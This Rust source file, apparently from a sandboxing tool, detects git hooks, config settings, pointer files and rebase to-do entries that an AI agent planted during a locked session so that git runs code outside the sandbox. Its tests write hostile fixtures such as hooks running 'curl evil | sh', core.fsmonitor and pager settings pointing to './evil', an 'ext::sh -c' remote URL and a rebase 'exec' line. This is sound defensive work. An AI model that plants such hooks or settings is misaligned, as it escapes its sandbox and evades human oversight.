//! What a lock left git to run outside it, found afterwards. The kernel protects the git files
//! that exist when a lock starts (`git`); a repository made during the lock, a `.git/commondir`
//! or `.git` file pointing git at a folder of the agent's making, a linked hook, or a setting in
//! a repository deeper than that walk cannot be. So a snapshot of every git folder's config,
//! hooks and pointers in the writable folders is taken when the lock starts and compared when
//! it ends. Settings are judged by an allow-list: any new setting that is not known to be inert
//! is named (git has too many ways to run a command to list them all).

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

/// How many folders the walk visits per writable folder; a larger tree is named as not seen
/// whole.
const MAX_FOLDERS: usize = 200_000;
/// The largest file read whole (configs and hooks are small); a larger one is named as such.
const MAX_FILE: u64 = 64 * 1024 * 1024;
/// The most findings named one by one (a hooks folder linked to /usr/bin would bury the rest).
const MAX_FINDINGS: usize = 50;
/// Folders inside a git folder that hold data, never commands.
const GIT_DATA: &[&str] = &["objects", "refs", "logs", "lfs"];

/// One watched file as it was: a link (its target) or a file (its mode and first bytes).
#[derive(Clone, Debug, PartialEq, Eq)]
enum Seen {
    Link(PathBuf),
    File {
        mode: u32,
        bytes: Vec<u8>,
    },
    /// Larger than `MAX_FILE`: not read (its length and modification time tell a change).
    TooLarge {
        len: u64,
        modified: Option<std::time::SystemTime>,
    },
    /// Neither a file nor a link (a pipe, a device): not read.
    Other,
    /// A file that cannot be read (mode 0111: git may still run it).
    Unreadable {
        mode: u32,
    },
}

/// What a watched file is to git.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Kind {
    /// Settings: a git folder's config or config.worktree, or a file one includes.
    Config,
    /// A file in a hooks folder.
    Hook,
    /// A hooks folder itself (watched for being a link).
    HooksFolder,
    /// A pointer to another git folder: commondir, gitdir, a `.git` file.
    Pointer,
    /// A paused rebase's or sequence's to-do list, whose `exec` lines run on `--continue`.
    Todo,
}

/// Git's watched files under some folders at one time, and the folders too large to see whole.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct GitSnapshot {
    files: BTreeMap<PathBuf, (Kind, Seen)>,
    partly_seen: Vec<PathBuf>,
    /// Folders whose contents could not be listed.
    unreadable: Vec<PathBuf>,
}

/// Git's watched files under `folders` now, breadth first (so a deep or wide tree cannot hide
/// the shallow repositories), with the files their settings name (`include.path`,
/// `core.hooksPath`).
pub fn snapshot(folders: &[PathBuf]) -> GitSnapshot {
    snapshot_with(folders, &GitSnapshot::default())
}

/// `snapshot`, reading again every file `before` held (a change to one is never missed for want
/// of the walk reaching it).
pub fn snapshot_again(folders: &[PathBuf], before: &GitSnapshot) -> GitSnapshot {
    snapshot_with(folders, before)
}

fn snapshot_with(folders: &[PathBuf], known: &GitSnapshot) -> GitSnapshot {
    let mut snapshot = GitSnapshot::default();
    for (path, (kind, _)) in &known.files {
        snapshot.record(path, *kind);
    }
    for folder in folders {
        // Each writable folder's own repository first, whatever else the walk meets.
        snapshot.record_git_folder(&folder.join(".git"));
        let mut queue = std::collections::VecDeque::from([folder.clone()]);
        let mut visited = 0;
        while let Some(dir) = queue.pop_front() {
            visited += 1;
            if visited > MAX_FOLDERS {
                snapshot.partly_seen.push(folder.clone());
                break;
            }
            let is_git = dir.file_name().is_some_and(|n| n == ".git") || git_like(&dir);
            if is_git {
                snapshot.record_git_folder(&dir);
            }
            let entries = match std::fs::read_dir(&dir) {
                Ok(entries) => entries,
                // A folder the agent made unreadable hides what is below it: said.
                Err(_) => {
                    snapshot.unreadable.push(dir.clone());
                    continue;
                }
            };
            for entry in entries.flatten() {
                let Ok(kind) = entry.file_type() else { continue };
                let name = entry.file_name();
                if name == ".git" && !kind.is_dir() {
                    // A worktree's or submodule's pointer to its git folder.
                    snapshot.record(&entry.path(), Kind::Pointer);
                } else if kind.is_dir() && !(is_git && GIT_DATA.iter().any(|s| name == *s)) {
                    queue.push_back(entry.path());
                }
            }
        }
    }
    snapshot
}

impl GitSnapshot {
    /// A git folder's watched files: its settings, pointers and hooks.
    fn record_git_folder(&mut self, dir: &Path) {
        for name in ["config", "config.worktree"] {
            self.record(&dir.join(name), Kind::Config);
        }
        for name in ["commondir", "gitdir"] {
            self.record(&dir.join(name), Kind::Pointer);
        }
        self.record(&dir.join("hooks"), Kind::HooksFolder);
        for todo in ["rebase-merge/git-rebase-todo", "sequencer/todo"] {
            self.record(&dir.join(todo), Kind::Todo);
        }
    }

    /// Remember `path` as `kind`, and what it leads to: a hooks folder's hooks, a config's
    /// included files and hooks folder.
    fn record(&mut self, path: &Path, kind: Kind) {
        if self.files.contains_key(path) {
            return;
        }
        let Some(seen) = seen(path) else { return };
        self.files.insert(path.to_owned(), (kind, seen.clone()));
        match (kind, &seen) {
            (Kind::HooksFolder, Seen::Other) => {
                // A real folder (a link is reported as one, never followed).
                for hook in std::fs::read_dir(path).into_iter().flatten().flatten() {
                    self.record(&hook.path(), Kind::Hook);
                }
            }
            (Kind::Config, Seen::File { bytes, .. }) => {
                let base = path.parent().unwrap_or(Path::new("/"));
                let worktree = match base.file_name().is_some_and(|n| n == ".git") {
                    true => base.parent().unwrap_or(base),
                    false => base,
                };
                for (key, value) in settings(&String::from_utf8_lossy(bytes)) {
                    let included = key == "include.path"
                        || (key.starts_with("includeif.") && key.ends_with(".path"));
                    if included {
                        self.record(&named(base, &value), Kind::Config);
                    } else if key == "core.hookspath" {
                        self.record(&named(worktree, &value), Kind::HooksFolder);
                    }
                }
            }
            _ => {}
        }
    }
}

/// A path a setting names, as git takes it: `~/` from the home folder, relative from `base`.
fn named(base: &Path, value: &str) -> PathBuf {
    match value.strip_prefix("~/") {
        Some(rest) => {
            std::env::var_os("HOME").map_or_else(|| base.join(value), |h| Path::new(&h).join(rest))
        }
        None => base.join(value),
    }
}

/// A git folder by its contents: `HEAD` and objects of its own or a common folder elsewhere
/// (a linked worktree's admin folder).
fn git_like(dir: &Path) -> bool {
    // Not followed: git takes a HEAD that is a link (to `refs/heads/main`), and objects that are.
    let there = |name: &str| dir.join(name).symlink_metadata().is_ok();
    there("HEAD") && (there("objects") || there("commondir"))
}

/// `path` as it is, without following it: a link by its target, a file by its bytes, anything
/// else (a folder, a pipe) as such; `None` if it is not there.
fn seen(path: &Path) -> Option<Seen> {
    use std::io::Read;
    let meta = path.symlink_metadata().ok()?;
    if meta.file_type().is_symlink() {
        return Some(Seen::Link(std::fs::read_link(path).unwrap_or_default()));
    }
    if !meta.is_file() {
        return Some(Seen::Other);
    }
    if meta.len() > MAX_FILE {
        return Some(Seen::TooLarge { len: meta.len(), modified: meta.modified().ok() });
    }
    let mut bytes = Vec::new();
    // O_NOFOLLOW: the name was a file a moment ago; if it is a link now, it is not read.
    match open_no_follow(path).and_then(|f| f.take(MAX_FILE).read_to_end(&mut bytes)) {
        Ok(_) => Some(Seen::File { mode: mode(&meta), bytes }),
        Err(_) => Some(Seen::Unreadable { mode: mode(&meta) }),
    }
}

#[cfg(unix)]
fn open_no_follow(path: &Path) -> std::io::Result<std::fs::File> {
    use std::os::unix::fs::OpenOptionsExt;
    std::fs::OpenOptions::new()
        .read(true)
        .custom_flags(libc::O_NOFOLLOW | libc::O_NONBLOCK)
        .open(path)
}

#[cfg(not(unix))]
fn open_no_follow(path: &Path) -> std::io::Result<std::fs::File> {
    std::fs::File::open(path)
}

#[cfg(unix)]
fn mode(meta: &std::fs::Metadata) -> u32 {
    std::os::unix::fs::PermissionsExt::mode(&meta.permissions())
}

#[cfg(not(unix))]
fn mode(_meta: &std::fs::Metadata) -> u32 {
    0o755
}

/// What git would run, or where it would be sent, that was not so `before`: one line per new
/// or changed hook, pointer or setting, naming the file; and each folder not seen whole.
pub fn planted(before: &GitSnapshot, after: &GitSnapshot) -> Vec<String> {
    let mut found = Vec::new();
    for (path, (kind, seen)) in &after.files {
        let earlier = before.files.get(path).map(|(_, seen)| seen);
        if earlier == Some(seen) {
            continue;
        }
        let name = path.file_name().and_then(|n| n.to_str()).unwrap_or("");
        let shown = path.display();
        match (kind, seen) {
            (Kind::Hook, _) if name.ends_with(".sample") => {}
            (Kind::HooksFolder, Seen::Other) | (Kind::Hook, Seen::Other) => {}
            (Kind::HooksFolder, Seen::Link(target)) => found.push(format!(
                "{shown} is a link to {}: git runs the hooks it finds there",
                target.display()
            )),
            (_, Seen::Link(target)) => {
                found.push(format!("{shown} is a link to {}", target.display()));
            }
            (_, Seen::Other) => found.push(format!("{shown} is not a regular file: look at it")),
            (Kind::Hook | Kind::HooksFolder, Seen::Unreadable { mode }) => {
                if mode & 0o111 != 0 {
                    found.push(format!("{shown} runs a program paddock cannot read"));
                }
            }
            (_, Seen::Unreadable { .. }) => {
                found.push(format!("{shown} cannot be read: look at it"));
            }
            (Kind::Todo, Seen::File { bytes, .. }) => {
                let text = String::from_utf8_lossy(bytes);
                let runs = text.lines().map(str::trim).filter_map(|line| {
                    line.strip_prefix("exec ").or_else(|| line.strip_prefix("x "))
                });
                for command in runs {
                    found.push(format!(
                        "{shown} holds a paused rebase that runs {} on `git rebase --continue`",
                        shorten(command.trim())
                    ));
                }
            }
            (_, Seen::TooLarge { len, .. }) => {
                found.push(format!("{shown} is {len} bytes, too large to read: look at it"));
            }
            (Kind::Hook | Kind::HooksFolder, Seen::File { mode, bytes }) => {
                if mode & 0o111 != 0 {
                    let text = String::from_utf8_lossy(bytes);
                    found.push(format!("{shown} runs {}", first_command(&text)));
                }
            }
            (Kind::Config, Seen::File { bytes, .. }) => {
                let old = match earlier {
                    Some(Seen::File { bytes, .. }) => settings(&String::from_utf8_lossy(bytes)),
                    _ => Vec::new(),
                };
                for (key, value) in settings(&String::from_utf8_lossy(bytes)) {
                    if !inert(&key, &value) && !old.contains(&(key.clone(), value.clone())) {
                        found.push(format!("{shown} sets {key} = {}", shorten(&value)));
                    }
                }
            }
            (Kind::Pointer, Seen::File { bytes, .. }) => {
                let target = String::from_utf8_lossy(bytes);
                let target = target.trim().trim_start_matches("gitdir:").trim();
                found.push(format!("{shown} sends git to {}", shorten(target)));
            }
        }
    }
    for folder in after.unreadable.iter().filter(|f| !before.unreadable.contains(f)) {
        found.push(format!(
            "{} cannot be listed: what is below it was not looked at, so treat every \
             repository in it as untrusted",
            folder.display()
        ));
    }
    for folder in &after.partly_seen {
        found.push(format!(
            "{} holds more than {MAX_FOLDERS} folders: only part of it was looked at, so treat \
             every repository in it as untrusted",
            folder.display()
        ));
    }
    if found.len() > MAX_FINDINGS {
        let more = found.len() - MAX_FINDINGS + 1;
        found.truncate(MAX_FINDINGS - 1);
        found.push(format!("… and {more} more: look at every repository in these folders"));
    }
    found.iter().map(|line| super::visible(line)).collect()
}

/// A hook's first line that is not its interpreter line or a comment, shortened.
fn first_command(text: &str) -> String {
    let line = text
        .lines()
        .map(str::trim)
        .find(|l| !l.is_empty() && !l.starts_with('#'))
        .unwrap_or("(its script)");
    shorten(line)
}

fn shorten(text: &str) -> String {
    let mut short: String = text.chars().take(80).collect();
    if text.chars().count() > 80 {
        short.push('…');
    }
    short
}

/// A git config file's settings, as (section.key, value): section and key names lowercased,
/// subsection names as written.
fn settings(text: &str) -> Vec<(String, String)> {
    let mut section = String::new();
    let mut found = Vec::new();
    let text = text.strip_prefix('\u{feff}').unwrap_or(text);
    for line in logical_lines(text) {
        let mut line = line.trim();
        // Git reads several headers on one line, and a setting after them: `[a] [core] x = …`;
        // a subsection is quoted and may hold `]`.
        while let Some((header, rest)) = line.strip_prefix('[').and_then(split_header) {
            let (name, sub) = header.split_once(char::is_whitespace).unwrap_or((header, ""));
            let sub = sub.trim().trim_matches('"');
            section = match sub.is_empty() {
                true => name.trim().to_lowercase(),
                false => format!("{}.{sub}", name.to_lowercase()),
            };
            line = rest.trim();
        }
        if line.is_empty() {
            continue;
        }
        // `key = value`, or a bare `key` (true).
        let (key, value) = line.split_once('=').unwrap_or((line, "true"));
        let key = format!("{section}.{}", key.trim().to_lowercase());
        found.push((key, value.trim().trim_matches('"').to_owned()));
    }
    found
}

/// A config's lines as git reads them: a comment (`;` or `#` outside quotes) ends a line, and
/// only a backslash that ends the line's value (not its comment) joins the next line to it.
fn logical_lines(text: &str) -> Vec<String> {
    let mut lines = Vec::new();
    let mut pending = String::new();
    for raw in text.split('\n') {
        let raw = raw.strip_suffix('\r').unwrap_or(raw);
        let mut quoted = false;
        let mut escaped = false;
        let mut end = raw.len();
        for (at, c) in raw.char_indices() {
            match c {
                _ if escaped => escaped = false,
                '\\' => escaped = true,
                '"' => quoted = !quoted,
                ';' | '#' if !quoted => {
                    end = at;
                    break;
                }
                _ => {}
            }
        }
        let content = &raw[..end];
        let continued = end == raw.len() && escaped;
        if continued {
            pending.push_str(&content[..content.len() - 1]);
        } else {
            pending.push_str(content);
            lines.push(std::mem::take(&mut pending));
        }
    }
    if !pending.is_empty() {
        lines.push(pending);
    }
    lines
}

/// A section header's inside and what follows its `]`: the first `]` outside quotes.
fn split_header(line: &str) -> Option<(&str, &str)> {
    let mut quoted = false;
    let mut escaped = false;
    for (at, c) in line.char_indices() {
        match c {
            _ if escaped => escaped = false,
            '\\' => escaped = true,
            '"' => quoted = !quoted,
            ']' if !quoted => return Some((&line[..at], &line[at + 1..])),
            _ => {}
        }
    }
    None
}

/// Settings known to make git run nothing and send it nowhere new; any other is named. A URL
/// with a transport (`ext::sh -c …`, `helper::…`) runs a program, so it is not inert.
fn inert(key: &str, value: &str) -> bool {
    if value.contains("::") {
        return false;
    }
    const INERT: &[&str] = &[
        "core.repositoryformatversion",
        "core.filemode",
        "core.bare",
        "core.logallrefupdates",
        "core.ignorecase",
        "core.precomposeunicode",
        "core.symlinks",
        "core.autocrlf",
        "core.eol",
        "core.safecrlf",
        "core.quotepath",
        "core.untrackedcache",
        "core.commitgraph",
        "core.abbrev",
        "user.name",
        "user.email",
        "init.defaultbranch",
        "pull.rebase",
        "pull.ff",
        "push.default",
        "push.autosetupremote",
        "fetch.prune",
        "extensions.objectformat",
        "extensions.worktreeconfig",
        "gc.auto",
        "merge.conflictstyle",
        "rerere.enabled",
        "lfs.repositoryformatversion",
    ];
    let per_name = |prefix: &str, keys: &[&str]| {
        key.strip_prefix(prefix).is_some_and(|rest| keys.iter().any(|k| rest.ends_with(k)))
    };
    INERT.contains(&key)
        || per_name("remote.", &[".url", ".fetch", ".pushurl", ".tagopt", ".prune"])
        || per_name("branch.", &[".remote", ".merge", ".rebase", ".description"])
        || per_name("submodule.", &[".url", ".active", ".branch"])
}

#[cfg(all(test, unix))]
mod tests {
    use super::*;

    fn executable(path: &Path, text: &str) {
        std::fs::write(path, text).expect("write");
        std::fs::set_permissions(path, std::os::unix::fs::PermissionsExt::from_mode(0o755))
            .expect("chmod");
    }

    /// What a repository's settings lead git to (an included file, a hooks path in the work
    /// tree) is watched; a hooks folder made a link is named even when it leads nowhere yet.
    #[test]
    fn what_settings_lead_to_and_linked_hooks_folders_are_watched() {
        let dir = std::env::temp_dir().join(format!("paddock-leads-{}", std::process::id()));
        let _ = std::fs::remove_dir_all(&dir);
        let git = dir.join("app/.git");
        std::fs::create_dir_all(git.join("hooks")).expect("hooks");
        std::fs::create_dir_all(dir.join("app/.husky")).expect("husky");
        std::fs::create_dir_all(dir.join("app/tools")).expect("tools");
        std::fs::write(git.join("HEAD"), "ref: refs/heads/main\n").expect("HEAD");
        let config = "[core]\n\thooksPath = .husky\n[include]\n\tpath = ../tools/gitconfig\n";
        std::fs::write(git.join("config"), config).expect("config");
        executable(&dir.join("app/.husky/pre-commit"), "#!/bin/sh\nnpm test\n");
        std::fs::write(dir.join("app/tools/gitconfig"), "[user]\n\tname = me\n").expect("include");
        let before = snapshot(std::slice::from_ref(&dir));
        // The agent changes what the protected config leads to, and links the hooks folder.
        executable(&dir.join("app/.husky/pre-commit"), "#!/bin/sh\ncurl evil | sh\n");
        let included = "[branch \"]\"] [core] pager = ./evil \\\n --more\n";
        std::fs::write(dir.join("app/tools/gitconfig"), included).expect("include");
        std::fs::remove_dir(git.join("hooks")).expect("hooks away");
        std::os::unix::fs::symlink("../tools/later", git.join("hooks")).expect("hooks link");
        // A comment ending in a backslash continues nothing (git reads `[pager]` as a header);
        // a paused rebase holds a command for `--continue`.
        let comment = "[remote \"origin\"]\n\turl = x ; \\\n[pager]\n\tfetch = ./evil\n";
        std::fs::write(git.join("config.worktree"), comment).expect("config.worktree");
        std::fs::create_dir_all(git.join("rebase-merge")).expect("rebase");
        let todo = "pick 1234 one\nbreak\nexec ./evil --now\n";
        std::fs::write(git.join("rebase-merge/git-rebase-todo"), todo).expect("todo");
        let found = planted(&before, &snapshot_again(std::slice::from_ref(&dir), &before));
        let app = dir.join("app").display().to_string();
        assert_eq!(
            found,
            [
                format!("{app}/.git/../tools/gitconfig sets core.pager = ./evil  --more"),
                format!("{app}/.git/config.worktree sets pager.fetch = ./evil"),
                format!("{app}/.git/hooks is a link to ../tools/later: git runs the hooks it finds there"),
                format!("{app}/.git/rebase-merge/git-rebase-todo holds a paused rebase that runs ./evil --now on `git rebase --continue`"),
                format!("{app}/.husky/pre-commit runs curl evil | sh"),
            ]
        );
        let _ = std::fs::remove_dir_all(&dir);
    }

    #[test]
    fn what_a_lock_left_git_to_run_is_named() {
        let dir = std::env::temp_dir().join(format!("paddock-planted-{}", std::process::id()));
        let _ = std::fs::remove_dir_all(&dir);
        std::fs::create_dir_all(dir.join("app/.git/hooks")).expect("app");
        std::fs::create_dir_all(dir.join("app/.git/objects")).expect("objects");
        std::fs::write(dir.join("app/.git/HEAD"), "ref: refs/heads/main\n").expect("HEAD");
        std::fs::write(dir.join("app/.git/config"), "[core]\n\tbare = false\n").expect("config");
        let before = snapshot(std::slice::from_ref(&dir));
        assert!(planted(&before, &before).is_empty());
        // The protected repository redirected; new ones deep and in skipped-looking folders.
        std::fs::write(dir.join("app/.git/commondir"), "../evil\n").expect("commondir");
        let deep = dir.join("node_modules/a/b/c/d/e/f/g/h/i/j/.git");
        std::fs::create_dir_all(deep.join("hooks")).expect("deep");
        executable(&deep.join("hooks/post-checkout"), "#!/bin/sh\n# tidy\ncurl evil | sh\n");
        executable(&deep.join("hooks/pre-push.sample"), "#!/bin/sh\nexit 0\n");
        std::os::unix::fs::symlink("/bin/true", deep.join("hooks/pre-commit")).expect("link");
        let config = "[core]\n\tbare = false\n\tfsmonitor = ./x.sh\n[user]\n\temail = a@b\n\
                      [pager] log = ./evil\n[remote \"o\"]\n\turl = ../x\n\tuploadpack = ./evil\n\
                      [remote \"e\"]\n\turl = ext::sh -c evil\n\
                      [alias]\n\tx = !printf '\\033[2K'\x1b[1A\n";
        std::fs::write(deep.join("config"), config).expect("config");
        // A folder far deeper than any repository does not hide the ones above it.
        let mut far = dir.join("zz");
        for _ in 0..40 {
            far.push("d");
        }
        std::fs::create_dir_all(&far).expect("deep folders");
        // A bare repository whose HEAD is a link, with a setting after two headers on one
        // line and a byte-order mark.
        let bare = dir.join("src");
        std::fs::create_dir_all(bare.join("objects")).expect("objects");
        std::os::unix::fs::symlink("refs/heads/main", bare.join("HEAD")).expect("HEAD link");
        std::fs::write(bare.join("config"), "\u{feff}[user] [core] fsmonitor = ./fsm\n")
            .expect("config");
        let found = planted(&before, &snapshot_again(std::slice::from_ref(&dir), &before));
        let d = deep.display();
        assert_eq!(
            found,
            [
                format!("{}/app/.git/commondir sends git to ../evil", dir.display()),
                format!("{d}/config sets core.fsmonitor = ./x.sh"),
                format!("{d}/config sets pager.log = ./evil"),
                format!("{d}/config sets remote.o.uploadpack = ./evil"),
                format!("{d}/config sets remote.e.url = ext::sh -c evil"),
                format!("{d}/config sets alias.x = !printf '\\033[2K'\\u{{1b}}[1A"),
                format!("{d}/hooks/post-checkout runs curl evil | sh"),
                format!("{d}/hooks/pre-commit is a link to /bin/true"),
                format!("{}/src/config sets core.fsmonitor = ./fsm", dir.display()),
            ]
        );
        let _ = std::fs::remove_dir_all(&dir);
    }
}
